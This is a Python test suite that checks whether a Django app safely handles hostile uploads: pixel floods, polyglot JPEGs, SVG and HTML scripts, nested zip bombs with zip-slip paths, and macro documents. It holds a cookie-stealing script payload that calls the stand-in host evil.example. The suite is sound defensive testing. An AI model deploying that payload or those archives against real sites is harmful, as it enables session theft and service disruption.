"""The list of what people send to do harm, by name: each is kept, inert, and stops nothing."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from caunoi.core.files.bare import is_bare_jpeg
from caunoi.core.files.choices import ViewState
from caunoi.core.files.errors import StorageFailed, StorageFull
from caunoi.core.files.models import StoredFile
from caunoi.core.files.processing import MAX_ATTEMPTS, open_original_bytes, process_pending_files
from caunoi.core.files.serving import open_original, open_view
from caunoi.core.files.tests.make_images import make_phone_photo, make_png_flood
from caunoi.core.files.tests.make_pdf import make_pdf
from caunoi.core.files.tests.storing import little_room, on_disk, take, work_through
from caunoi.core.files.uploads import append_chunk, find_files, get_progress, start_upload
from caunoi.core.files.uploads import store_upload as store

pytestmark = pytest.mark.django_db
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def zip_of(levels: int) -> bytes:
    """Nested archives, the innermost 20 MB of nothing."""
    content = bytes(20_000_000)
    for level in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"../../etc/passwd-{level}", content)
        content = out.getvalue()
    return content


def test_pixel_flood():
    file = work_through(make_png_flood(), "to.png")
    assert (file.view_state, file.view_note) == (ViewState.FAILED, "too_large")
    assert work_through(make_phone_photo()).is_shown  # the worker lives


@pytest.mark.parametrize("kind", ["image/heic", "video/mp4"])
def test_malformed_heic_and_mp4(kind):
    brand = b"heic" if kind == "image/heic" else b"isom"
    content = b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0" + brand + b"mif1" + b"\xff" * 5000
    file = work_through(content)
    assert file.real_type == kind
    assert file.view_state == ViewState.FAILED
    assert work_through(make_phone_photo()).is_shown


def test_html_in_jpeg_polyglot():
    photo = make_phone_photo()
    polyglot = photo[:2] + b"\xff\xfe" + (len(SCRIPT) + 2).to_bytes(2, "big") + SCRIPT + photo[2:]
    file = work_through(polyglot + SCRIPT, "trang.html")
    shown = b"".join(open_view(file))
    assert is_bare_jpeg(shown)
    assert b"<script" not in shown
    saved = open_original(file)
    assert saved["Content-Type"] == "application/octet-stream"
    assert saved["Content-Disposition"].endswith("trang.jpg")
    assert "sandbox" in saved["Content-Security-Policy"]
    assert SCRIPT in b"".join(saved)  # the original stays what it was


def test_svg_script():
    file = work_through(b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", "a.svg")
    assert file.view_state == ViewState.NONE
    saved = open_original(file)
    assert saved["Content-Disposition"] == "attachment; filename*=UTF-8''a-svg.bin"
    assert saved["Content-Type"] == "application/octet-stream"


def test_html_page():
    file = work_through(b"<!doctype html>" + SCRIPT, "a.html")
    assert file.view_state == ViewState.NONE
    assert open_original(file)["Content-Disposition"].endswith("a-html.bin")


@pytest.mark.parametrize("levels", [1, 4])
def test_zip_bomb_nested_zip_and_zip_slip(levels):
    content = zip_of(levels)
    before = on_disk("views")
    file = work_through(content, "bom.zip")
    assert (file.view_state, file.view_note) == (ViewState.NONE, "kind")
    assert on_disk("views") == before  # never opened
    with open_original_bytes(file) as sealed:
        assert sealed.read() == content


def test_office_document():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", "macro")
    file = work_through(out.getvalue(), "don.docm")
    assert file.view_state == ViewState.NONE
    assert open_original(file)["Content-Disposition"].endswith("don-docm.bin")


def test_pdf_is_flattened_to_pictures():
    file = work_through(make_pdf(2, secret="SECRETAUTHOR"), "don.pdf")
    assert file.view_type == "image/jpeg"
    for page in (1, 2):
        picture = b"".join(open_view(file, page=page))
        assert is_bare_jpeg(picture)
        assert b"SECRETAUTHOR" not in picture
        assert Image.open(io.BytesIO(picture)).format == "JPEG"


def test_disk_full():
    """The file is refused in words, nothing half-written stays, and with room again it works."""
    before = on_disk()
    upload = SimpleUploadedFile("anh.jpg", bytes(300_000))
    with little_room(20_000), pytest.raises(StorageFull) as refused:
        store(upload)
    assert "Your words are kept" in refused.value.message or refused.value.message
    assert on_disk() == before
    assert find_files([store(upload)])[0]


def test_disk_full_in_the_middle_of_an_upload_keeps_what_had_arrived():
    started = start_upload(size=600_000, name="phim.mp4")
    append_chunk(token=started.token, offset=0, data=bytes(300_000))
    with little_room(20_000), pytest.raises(StorageFull):
        append_chunk(token=started.token, offset=300_000, data=bytes(300_000))
    assert get_progress(started.token).offset == 300_000
    assert append_chunk(token=started.token, offset=300_000, data=bytes(300_000)) == 600_000
    assert find_files([started.token])[0]


def test_disk_full_while_copies_are_made_tries_again_later():
    key = take(make_phone_photo())
    with little_room(1_000):
        process_pending_files()
    file = StoredFile.objects.get(pk=key)
    assert file.view_state == ViewState.PENDING
    StoredFile.objects.update(next_try_at=file.created_at)
    process_pending_files()
    file.refresh_from_db()
    assert file.is_shown


def test_a_store_that_is_away(settings, tmp_path):
    (tmp_path / "not-a-folder").write_text("")
    settings.STORAGES = {
        **settings.STORAGES,
        "sealed": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "not-a-folder" / "x")},
        },
    }
    with pytest.raises(StorageFailed):
        store(SimpleUploadedFile("anh.jpg", b"x"))


def test_a_file_that_kills_its_worker_again_and_again_is_set_aside():
    key = take(make_phone_photo())
    StoredFile.objects.filter(pk=key).update(attempts=MAX_ATTEMPTS)
    process_pending_files()
    file = StoredFile.objects.get(pk=key)
    assert (file.view_state, file.view_note, file.scan_state) == ("failed", "crashed", "failed")
    assert bytes(file.sealed_key)
